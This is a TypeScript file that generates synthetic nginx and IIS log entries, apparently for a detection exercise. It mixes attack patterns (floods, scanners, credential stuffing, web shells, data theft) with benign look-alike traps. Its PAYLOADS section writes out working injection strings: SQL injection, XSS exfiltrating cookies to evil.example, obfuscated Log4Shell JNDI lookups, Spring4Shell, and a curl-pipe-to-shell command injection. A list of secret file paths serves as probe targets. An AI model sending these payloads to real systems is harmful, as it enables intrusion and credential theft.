// Round 4 (web) incidents and traps, each a few lines of a real attack's shape written over the
// portal's day (see logs.ts). Attackers send browser user agents unless the tool would not.
import { BROWSERS, DAY0, HOUR, MIN, SEC, rng, type Req, type WebSet } from './logs';

const CHROME = BROWSERS[0]!;

// ---------------------------------------------------------------- floods

/** 400 addresses, each 20 requests a minute for 12 minutes, to `/?r=<random>`: no one source stands out. */
export function distributedFlood(): Partial<WebSet> {
  const r = rng(101);
  const out: Req[] = [];
  const start = DAY0 + 14 * HOUR + 5 * MIN;
  for (let s = 0; s < 400; s++) {
    const ip = `${[5, 31, 37, 46, 62, 77, 95, 178][s % 8]}.${(s * 7) % 200 + 20}.${(s * 13) % 250}.${(s % 250) + 1}`;
    const ua = BROWSERS[s % BROWSERS.length]!;
    for (let i = 0; i < 12 * 20; i++) out.push({ ts: start + i * 3 * SEC + Math.floor(r() * 3000), ip, url: `/?r=${Math.floor(r() * 1e6)}`, bytes: 31000, ua });
  }
  return { nginx: out };
}

/** One address at 55 requests a second for 3 minutes on the search page with a random query. */
export function singleFlood(): Partial<WebSet> {
  const r = rng(102);
  const out: Req[] = [];
  const start = DAY0 + 3 * HOUR + 20 * MIN;
  for (let i = 0; i < 55 * 180; i++) out.push({ ts: start + Math.floor(i / 55) * SEC, ip: '185.225.73.18', url: `/search?q=${Math.floor(r() * 1e9).toString(36)}`, bytes: 18000, ua: CHROME });
  return { nginx: out };
}

/** Slowloris: one address opening connections it never finishes; nginx logs each as 408 with no request line. */
export function slowloris(): Partial<WebSet> {
  const out: Req[] = [];
  const start = DAY0 + 20 * HOUR;
  for (let i = 0; i < 1500; i++) out.push({ ts: start + i * 2 * SEC, ip: '92.63.197.153', url: '', noRequest: true, status: 408, bytes: 0, ua: '-' });
  return { nginx: out };
}

/** A slowloris botnet: 60 outside addresses, each holding 40 connections open over an hour (each one under bursts.slowTimeouts). */
export function distributedSlowloris(): Partial<WebSet> {
  const r = rng(105);
  const out: Req[] = [];
  const start = DAY0 + 21 * HOUR;
  for (let s = 0; s < 60; s++) {
    const ip = `${[89, 109, 176, 193][s % 4]}.${(s * 11) % 200 + 30}.${(s * 17) % 250}.${(s % 200) + 10}`;
    for (let i = 0; i < 40; i++) out.push({ ts: start + Math.floor(r() * HOUR), ip, url: '', noRequest: true, status: 408, bytes: 0, ua: '-' });
  }
  return { nginx: out };
}

/** A load balancer's 12 inside nodes: each opens a TCP check every minute that sends nothing (408), and asks /health now and then. */
export function healthCheckers(): Partial<WebSet> {
  const out: Req[] = [];
  for (let s = 1; s <= 12; s++) {
    const ip = `10.20.0.${s}`;
    for (let i = 0; i < 60; i++) out.push({ ts: DAY0 + 9 * HOUR + i * MIN + s * SEC, ip, url: '', noRequest: true, status: 408, bytes: 0, ua: '-' });
    for (let i = 0; i < 6; i++) out.push({ ts: DAY0 + 9 * HOUR + i * 10 * MIN + 30 * SEC, ip, url: '/health', bytes: 2, ua: 'ELB-HealthChecker/2.0' });
  }
  return { nginx: out };
}

// ---------------------------------------------------------------- scanners

const HIDDEN = [
  '/.env', '/.env.bak', '/.env.production', '/.git/config', '/.git/HEAD', '/.svn/entries', '/.DS_Store', '/backup.zip', '/backup.tar.gz', '/site.tar.gz', '/db.sql', '/dump.sql',
  '/wp-config.php.bak', '/wp-config.php~', '/config.php.old', '/.aws/credentials', '/.ssh/id_rsa', '/phpinfo.php', '/info.php', '/server-status', '/admin/', '/administrator/',
  '/phpmyadmin/', '/pma/', '/adminer.php', '/.htpasswd', '/web.config', '/config.json', '/credentials.json', '/.npmrc', '/docker-compose.yml', '/.travis.yml', '/storage/logs/laravel.log',
];
const DIRS = ['', '/old', '/new', '/backup', '/bak', '/test', '/dev', '/staging', '/v1', '/v2', '/app', '/api', '/public', '/wordpress', '/wp', '/blog', '/site', '/cms', '/shop', '/admin'];
export const hiddenPaths = (): string[] => DIRS.flatMap((d) => HIDDEN.map((h) => d + h));

/** A browser-agent scanner, one missing path every 20 s for four hours at night. */
export function slowScanner(): Partial<WebSet> {
  const paths = hiddenPaths();
  const out: Req[] = [];
  for (let i = 0; i < 720; i++) out.push({ ts: DAY0 + 1 * HOUR + i * 20 * SEC, ip: '45.148.10.174', url: paths[i % paths.length]!, status: 404, bytes: 153, ua: BROWSERS[2] });
  return { nginx: out };
}

/** The same list, fast: 600 paths in two minutes, still with a browser agent. */
export function fastScanner(): Partial<WebSet> {
  const paths = hiddenPaths();
  const out: Req[] = [];
  for (let i = 0; i < 600; i++) out.push({ ts: DAY0 + 16 * HOUR + Math.floor(i * 0.2 * SEC), ip: '162.243.146.27', url: paths[i]!, status: i === 3 ? 200 : 404, bytes: 153, ua: CHROME });
  return { nginx: out };
}

// ---------------------------------------------------------------- payloads

/** Evasive payloads, one attacker each, a handful of requests (the detector must see through the encoding). */
export const PAYLOADS: Record<string, { ip: string; reqs: Omit<Req, 'ts' | 'ip'>[] }> = {
  doubleEncodedTraversal: { ip: '103.77.192.11', reqs: [{ url: '/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd', status: 400 }] },
  overlongUtf8: { ip: '103.77.192.12', reqs: [{ url: '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow', status: 400 }] },
  tomcatBypass: { ip: '103.77.192.13', reqs: [{ url: '/docs/..;/manager/html', status: 401 }, { url: '/static/..;/..;/WEB-INF/web.xml', status: 404 }] },
  versionedUnion: { ip: '103.77.192.14', reqs: [{ url: '/news?id=-1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,2,group_concat(username,0x3a,password),4%20FROM%20users--%20-', status: 500 }] },
  timeBlind: {
    ip: '103.77.192.15',
    reqs: [
      { url: "/products?id=4411'%20AND%20(SELECT%205723%20FROM%20(SELECT(SLEEP(5)))aBcD)--%20xyz" },
      { url: '/products?id=4411;SELECT%20pg_sleep(5)--' },
      { url: "/products?id=4411';WAITFOR%20DELAY%20'0:0:5'--" },
    ],
  },
  xssHandlers: {
    ip: '103.77.192.16',
    reqs: [{ url: '/search?q=%3Cimg%20src%3Dx%20oNeRrOr%3Dconfirm(document.domain)%3E' }, { url: '/login?next=javascript:fetch(%27//evil.example%2F%27%2Bdocument.cookie)' }],
  },
  log4shellObfuscated: {
    ip: '103.77.192.17',
    reqs: [{ url: '/', ua: '${${lower:j}${::-n}${upper:d}${env:NaN:-i}:${lower:l}${::-d}${::-a}${::-p}://198.51.100.23:1389/Basic/Command/Base64/d2dldA==}' }],
  },
  spring4shell: {
    ip: '103.77.192.18',
    reqs: [{ method: 'POST', url: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', status: 200 }],
  },
  cmdInjection: {
    ip: '103.77.192.19',
    reqs: [{ url: '/cgi-bin/ping?host=127.0.0.1|id' }, { url: '/tools/lookup?domain=example.com%60id%60' }, { url: '/tools/lookup?domain=$(curl%20-s%20http://203.0.113.9/x.sh|sh)' }],
  },
  refererPayload: { ip: '103.77.192.20', reqs: [{ url: '/news', ref: "https://www.google.com/' UNION SELECT NULL,NULL,version()-- -" }] },
};
export function payloads(): Partial<WebSet> {
  const out: Req[] = [];
  let t = DAY0 + 10 * HOUR;
  for (const { ip, reqs } of Object.values(PAYLOADS)) for (const q of reqs) out.push({ ts: (t += 37 * SEC), ip, status: 200, bytes: 3100, ua: CHROME, ...q });
  return { nginx: out };
}

// ---------------------------------------------------------------- logins

/** A rotating residential pool on the IIS site's JSON login API: 350 addresses, each 1 to 3 tries in 90 minutes, a few get in. */
export function apiStuffing(): Partial<WebSet> {
  const r = rng(103);
  const out: Req[] = [];
  for (let s = 0; s < 350; s++) {
    const ip = `${[24, 67, 73, 98, 174][s % 5]}.${(s * 11) % 250}.${(s * 3) % 250}.${(s % 250) + 2}`;
    const tries = 1 + (s % 3);
    for (let k = 0; k < tries; k++) {
      const win = s % 50 === 7 && k === tries - 1;
      out.push({ ts: DAY0 + 2 * HOUR + Math.floor(r() * 90 * MIN), ip, method: 'POST', url: '/api/v1/auth/login', status: win ? 200 : 401, bytes: win ? 640 : 90, ua: BROWSERS[s % BROWSERS.length] });
    }
  }
  return { iis: out };
}

/** WordPress xmlrpc system.multicall: 40 POSTs of hundreds of passwords each, every one answered 200. */
export function xmlrpcMulticall(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 40; i++) out.push({ ts: DAY0 + 5 * HOUR + i * 45 * SEC, ip: '194.180.48.62', method: 'POST', url: '/xmlrpc.php', status: 200, bytes: 120_000 + (i % 7) * 311, ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0' });
  return { nginx: out };
}

// ---------------------------------------------------------------- data theft

/** An account's session paging through the whole export: 1,800 pages of 600 kB in 40 minutes. */
export function bulkExport(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 1; i <= 1800; i++) out.push({ ts: DAY0 + 22 * HOUR + Math.floor(i * 1.3 * SEC), ip: '91.240.118.172', url: `/api/v1/export?page=${i}&per_page=500`, bytes: 600_000 + (i % 13) * 1000, ua: 'python-requests/2.32.3' });
  return { nginx: out };
}

/** Insecure direct object references: 3,000 consecutive user ids, each a 200 with a profile. */
export function idorWalk(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 3000; i++) out.push({ ts: DAY0 + 13 * HOUR + i * 2 * SEC, ip: '38.180.22.96', url: `/api/v1/users/${10_000 + i}`, status: i % 9 === 0 ? 404 : 200, bytes: 1800 + (i % 17) * 11, ua: CHROME, ref: 'https://portal.example.org/account/settings' });
  return { nginx: out };
}

/** A web shell dropped in the uploads folder, driven by POSTs for an hour. */
export function webshell(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 60; i++) out.push({ ts: DAY0 + 23 * HOUR + i * 55 * SEC, ip: '141.98.10.63', method: 'POST', url: '/wp-content/uploads/2026/10/wp-cache-ctl.php', status: 200, bytes: 40 + (i * 37) % 900, ua: CHROME });
  return { nginx: out };
}

/** The same on IIS: an .aspx in an upload folder answered 200. */
export function iisWebshell(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 30; i++) out.push({ ts: DAY0 + 21 * HOUR + i * 70 * SEC, ip: '45.9.20.101', method: 'POST', url: '/App_Data/uploads/help.aspx', status: 200, bytes: 300 + i * 5 });
  return { iis: out };
}

// ---------------------------------------------------------------- traps

/** A person searching for text with SQL and markup words in it. */
export function innocentSearches(): Partial<WebSet> {
  const out: Req[] = [];
  const qs = ['select+a+hotel+near+union+station', 'how+to+drop+a+course', 'union+station+parking', 'i+%3C3+this+portal', 'select+all+from+last+week', 'drop+down+menu+not+working', "o'brien+and+sons+order", 'where+is+order+by+date'];
  qs.forEach((q, i) => out.push({ ts: DAY0 + 11 * HOUR + i * 40 * SEC, ip: '87.123.45.67', url: `/search?q=${q}`, bytes: 22000, ua: BROWSERS[1], ref: 'https://portal.example.org/' }));
  return { nginx: out };
}

/** A browser opening a gallery: 180 images in one minute, referred by the page. */
export function galleryBrowser(): Partial<WebSet> {
  const out: Req[] = [];
  const t = DAY0 + 12 * HOUR;
  out.push({ ts: t, ip: '80.187.100.12', url: '/news/2026/11/event-photos', bytes: 40000, ua: BROWSERS[3] });
  for (let i = 0; i < 180; i++) out.push({ ts: t + 300 + i * 300, ip: '80.187.100.12', url: `/img/events/2026-11/photo-${i + 1}.jpg`, bytes: 180000, ua: BROWSERS[3], ref: 'https://portal.example.org/news/2026/11/event-photos' });
  return { nginx: out };
}

/** An admin's monthly export from the office: a few large files. */
export function adminExport(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 4; i++) out.push({ ts: DAY0 + 9 * HOUR + i * 3 * MIN, ip: '10.0.3.40', url: `/api/export?report=${['orders', 'customers', 'invoices', 'refunds'][i]}&format=csv`, bytes: 25_000_000, ua: BROWSERS[0], ref: 'https://portal.example.org/admin/reports' });
  return { nginx: out };
}

/** A mobile carrier's NAT: thousands of people's pages, and the 408s of phones losing signal mid-request. */
export function carrierNat(seed = 104): Partial<WebSet> {
  const r = rng(seed);
  const out: Req[] = [];
  for (let i = 0; i < 3000; i++) {
    const ts = DAY0 + 7 * HOUR + Math.floor(r() * 14 * HOUR);
    const ua = BROWSERS[3 + (i % 2)]!;
    out.push(i % 20 === 0 ? { ts, ip: '100.64.12.1', url: '', noRequest: true, status: 408, bytes: 0, ua: '-' } : { ts, ip: '100.64.12.1', url: ['/', '/news', '/pricing', '/docs/api', '/img/logo.svg'][i % 5]!, bytes: 9000, ua, ref: 'https://portal.example.org/' });
  }
  return { nginx: out };
}

/** Googlebot (from its published range) reading the news archive page by page, and a reader paging through twelve pages of results. */
export function sequentialReaders(): Partial<WebSet> {
  const out: Req[] = [];
  const bot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
  for (let i = 1; i <= 800; i++) out.push({ ts: DAY0 + 2 * HOUR + i * 9 * SEC, ip: '66.249.66.70', url: `/news/archive/${i}`, bytes: 15000, ua: bot });
  for (let i = 1; i <= 12; i++) out.push({ ts: DAY0 + 15 * HOUR + i * 25 * SEC, ip: '151.44.8.91', url: `/search?q=annual+report&page=${i}`, bytes: 21000, ua: BROWSERS[4], ref: 'https://portal.example.org/search?q=annual+report' });
  return { nginx: out };
}

/** The hidden-file list against a hardened site: dotfiles refused 403 by a deny rule, the rest answered 200 by a single-page app's catch-all (its index.html, same size each time). */
export function scannerNo404(): Partial<WebSet> {
  const paths = hiddenPaths();
  const out: Req[] = [];
  for (let i = 0; i < 300; i++) {
    const p = paths[(i * 7) % paths.length]!;
    out.push({ ts: DAY0 + 4 * HOUR + i * 30 * SEC, ip: '193.41.206.36', url: p, status: /\/\./.test(p) ? 403 : 200, bytes: /\/\./.test(p) ? 548 : 1843, ua: BROWSERS[1] });
  }
  return { nginx: out };
}

/** A short targeted probe: 15 secret files in one minute, all refused or missing. */
export function secretsProbe(): Partial<WebSet> {
  const out: Req[] = [];
  ['/.env', '/.git/config', '/.aws/credentials', '/wp-config.php.bak', '/backup.zip', '/db.sql', '/.env.production', '/config.php.old', '/.ssh/id_rsa', '/dump.sql', '/.git/HEAD', '/site.tar.gz', '/.htpasswd', '/credentials.json', '/.npmrc'].forEach((p, i) =>
    out.push({ ts: DAY0 + 6 * HOUR + i * 4 * SEC, ip: '104.131.60.112', url: p, status: p.startsWith('/.') ? 403 : 404, bytes: 153, ua: CHROME }),
  );
  return { nginx: out };
}

/** What looks like a hidden file and is not: apps reading /.well-known/, people downloading published archives and the config a single-page app loads. */
export function wellKnown(): Partial<WebSet> {
  const out: Req[] = [];
  const files = ['/.well-known/security.txt', '/.well-known/apple-app-site-association', '/.well-known/assetlinks.json', '/.well-known/openid-configuration', '/downloads/annual-report-2025.zip', '/downloads/sdk-3.2.1.tar.gz', '/downloads/data.zip', '/config.json', '/manifest.webmanifest'];
  for (let u = 0; u < 40; u++) for (const [i, f] of files.entries()) out.push({ ts: DAY0 + 9 * HOUR + u * 7 * MIN + i * SEC, ip: `151.20.${u}.9`, url: f, bytes: /\.(?:zip|gz)$/.test(f) ? 5_000_000 : 2000, ua: BROWSERS[u % BROWSERS.length] });
  return { nginx: out };
}

/** A login API that answers every attempt 200 with {"ok":false} (small) or a token (larger): 250 residential addresses, 1-2 tries each, nothing else. */
export function stuffing200(): Partial<WebSet> {
  const r = rng(105);
  const out: Req[] = [];
  for (let s = 0; s < 250; s++) {
    const ip = `${[71, 108, 172][s % 3]}.${(s * 19) % 250}.${(s * 5) % 250}.${(s % 250) + 3}`;
    for (let k = 0; k < 1 + (s % 2); k++) out.push({ ts: DAY0 + 18 * HOUR + Math.floor(r() * 60 * MIN), ip, method: 'POST', url: '/api/v2/session', status: 200, bytes: s % 60 === 0 ? 1210 : 41, ua: BROWSERS[s % BROWSERS.length] });
  }
  return { nginx: out };
}

/** A shell dropped among a theme's stylesheets, driven by POSTs answered 200. */
export function hiddenShell(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 45; i++) out.push({ ts: DAY0 + 8 * HOUR + i * 80 * SEC, ip: '5.161.92.4', method: 'POST', url: '/wp-includes/css/dist/block-library/style-rtl.min.php', status: 200, bytes: 120 + (i * 53) % 700, ua: CHROME });
  return { nginx: out };
}

/** HTTP Basic auth guessing on /admin/: 400 GETs answered 401 from one address in 20 minutes. */
export function basicAuthBrute(): Partial<WebSet> {
  const out: Req[] = [];
  for (let i = 0; i < 400; i++) out.push({ ts: DAY0 + 19 * HOUR + i * 3 * SEC, ip: '80.82.77.139', url: '/admin/', status: 401, bytes: 381, ua: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' });
  return { nginx: out };
}

/** A site template's contact form kept under assets/: thirty visitors each post it once, answered 200. */
export function assetsContactForm(): Partial<WebSet> {
  const out: Req[] = [];
  for (let v = 0; v < 30; v++) out.push({ ts: DAY0 + 10 * HOUR + v * 13 * MIN, ip: `89.${100 + v}.14.${v + 7}`, method: 'POST', url: '/assets/php/contact.php', status: 200, bytes: 64, ua: BROWSERS[v % BROWSERS.length], ref: 'https://portal.example.org/contact' });
  return { nginx: out };
}

/** A newsletter goes out: 1,500 people arrive within 15 minutes and browse pages with their assets, referred by the mail. */
export function flashCrowd(seed = 106): Partial<WebSet> {
  const r = rng(seed);
  const out: Req[] = [];
  const start = DAY0 + 16 * HOUR + 30 * MIN;
  const pages = ['/news/2026/11/quarterly-results', '/pricing', '/', '/docs/getting-started'];
  for (let v = 0; v < 1500; v++) {
    const ip = `${[2, 24, 70, 81, 99, 144, 187, 201][v % 8]}.${(v * 23) % 250}.${(v * 41) % 250}.${(v % 250) + 1}`;
    const ua = BROWSERS[v % BROWSERS.length]!;
    let t = start + Math.floor(r() * 15 * MIN);
    let ref = 'https://mail.example.net/';
    for (let p = 0; p < 1 + Math.floor(r() * 4); p++) {
      const page = pages[p === 0 ? 0 : Math.floor(r() * pages.length)]!;
      out.push({ ts: t, ip, url: p === 0 ? `${page}?utm_source=newsletter&utm_medium=email` : page, bytes: 30000, ua, ref });
      for (const a of ['/assets/main.3f9a1c.js', '/assets/vendor.88b2e0.js', '/assets/styles.d41c.css', '/img/logo.svg', '/img/banner-autumn.avif']) if (p === 0 || r() < 0.2) out.push({ ts: t + 300, ip, url: a, status: p === 0 ? 200 : 304, bytes: 40000, ua, ref: `https://portal.example.org${page}` });
      ref = `https://portal.example.org${page}`;
      t += 20_000 + Math.floor(r() * 60_000);
    }
  }
  return { nginx: out };
}

/** A chat tab left open all day polls for messages after the last one it has: the id moves when someone writes. */
export function chatPoller(seed = 107): Partial<WebSet> {
  const r = rng(seed);
  const out: Req[] = [];
  let id = 884_120;
  for (let t = DAY0 + 9 * HOUR; t < DAY0 + 17 * HOUR; t += 5 * SEC) {
    out.push({ ts: t, ip: '62.216.3.77', url: `/api/v1/messages?after=${id}&limit=50`, bytes: 90, ua: BROWSERS[2], ref: 'https://portal.example.org/team/chat' });
    if (r() < 0.4) id += 1 + Math.floor(r() * 3);
  }
  return { nginx: out };
}

/** An SEO crawler that says so: robots.txt first, then product pages in id order and the dead links it knew. */
export function seoCrawler(): Partial<WebSet> {
  const out: Req[] = [];
  const ua = 'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)';
  out.push({ ts: DAY0 + 3 * HOUR, ip: '185.191.171.5', url: '/robots.txt', bytes: 220, ua });
  for (let i = 1; i <= 900; i++) out.push({ ts: DAY0 + 3 * HOUR + i * 4 * SEC, ip: '185.191.171.5', url: `/products/${2000 + i}`, status: i % 10 === 0 ? 404 : 200, bytes: 24000, ua });
  return { nginx: out };
}

/** Slow stuffing that fetches the form for its CSRF token first: 300 addresses over 20 hours, each GET /user/login then one POST answered 200 (the form again); 20 real users load the page with its files and get in. */
export function csrfStuffing(seed = 108): Partial<WebSet> {
  const r = rng(seed);
  const out: Req[] = [];
  for (let s = 0; s < 300; s++) {
    const ip = `${[45, 103, 179, 190][s % 4]}.${(s * 29) % 250}.${(s * 7) % 250}.${(s % 250) + 4}`;
    const ts = DAY0 + 2 * HOUR + Math.floor(r() * 20 * HOUR);
    const ua = BROWSERS[s % BROWSERS.length];
    out.push({ ts, ip, url: '/user/login', bytes: 6100, ua });
    out.push({ ts: ts + 1200, ip, method: 'POST', url: '/user/login', status: 200, bytes: 6240, ua, ref: 'https://portal.example.org/user/login' });
  }
  for (let u = 0; u < 20; u++) {
    const ip = `217.${60 + u}.9.${u + 20}`;
    const ts = DAY0 + 9 * HOUR + u * 17 * MIN;
    out.push({ ts, ip, url: '/user/login', bytes: 6100, ua: BROWSERS[u % BROWSERS.length] });
    for (const a of ['/assets/main.3f9a1c.js', '/assets/styles.d41c.css']) out.push({ ts: ts + 200, ip, url: a, bytes: 50000, ua: BROWSERS[u % BROWSERS.length], ref: 'https://portal.example.org/user/login' });
    if (u % 4 === 0) out.push({ ts: ts + 8000, ip, method: 'POST', url: '/user/login', status: 200, bytes: 6240, ua: BROWSERS[u % BROWSERS.length], ref: 'https://portal.example.org/user/login' });
    out.push({ ts: ts + 15000, ip, method: 'POST', url: '/user/login', status: 302, bytes: 0, ua: BROWSERS[u % BROWSERS.length], ref: 'https://portal.example.org/user/login' });
  }
  return { nginx: out };
}

/** An attacker who knew where to look: three requests, the last one a 310 MB database dump left in the web root, answered 200. */
export function dumpDownload(): Partial<WebSet> {
  const t = DAY0 + 4 * HOUR + 12 * MIN;
  return {
    nginx: [
      { ts: t, ip: '31.220.3.140', url: '/', bytes: 31000, ua: CHROME },
      { ts: t + 4 * SEC, ip: '31.220.3.140', url: '/backup/', status: 403, bytes: 153, ua: CHROME },
      { ts: t + 9 * SEC, ip: '31.220.3.140', url: '/backup/portal-db-2026-11-09.sql.gz', bytes: 310_000_000, ua: CHROME },
    ],
  };
}

/** A botnet spraying one exploit: 200 addresses, each one request with the same JNDI lookup in its user agent, over six hours. */
export function exploitSpray(): Partial<WebSet> {
  const out: Req[] = [];
  for (let s = 0; s < 200; s++) out.push({ ts: DAY0 + 6 * HOUR + s * 107 * SEC, ip: `${[139, 159, 164, 167][s % 4]}.${(s * 3) % 250}.${(s * 11) % 250}.${(s % 250) + 1}`, url: '/', status: 200, bytes: 31000, ua: '${jndi:ldap://45.83.193.150:1389/Exploit}' });
  return { nginx: out };
}
